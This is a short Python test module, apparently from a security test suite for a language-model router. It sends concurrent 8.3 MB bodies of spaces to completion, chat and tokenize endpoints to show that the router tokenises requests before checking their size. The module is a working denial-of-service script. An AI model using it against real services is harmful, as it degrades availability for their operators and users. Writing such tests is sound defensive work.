"""Bodies of 8 MB, which would keep a router busy if it tokenised them before checking their
length."""

import json

from tests.attacks.target import AttackTarget
from tests.attacks.uploads import CHAT

FINDING = "9: bodies are tokenised before any size check"

AT_ONCE = 8
LARGEST = 8_300_000
HEADERS = {"content-type": "application/json"}


async def attack(target: AttackTarget) -> None:
    """Send a body of spaces in turn as a prompt, as a chat message and to /tokenize."""
    spaces = " " * LARGEST
    requests = [
        ("/v1/completions", {"prompt": spaces, "max_tokens": 1}),
        (CHAT, {"messages": [{"role": "user", "content": spaces}], "max_tokens": 1}),
        ("/tokenize", {"prompt": spaces}),
    ]
    bodies = [(path, json.dumps(body).encode()) for path, body in requests]
    number = 0
    async with target.client() as client:

        async def ask() -> None:
            nonlocal number
            path, content = bodies[number % len(bodies)]
            number += 1
            await target.post(client, path, content=content, headers=HEADERS)

        await target.repeat_concurrently(ask, AT_ONCE)
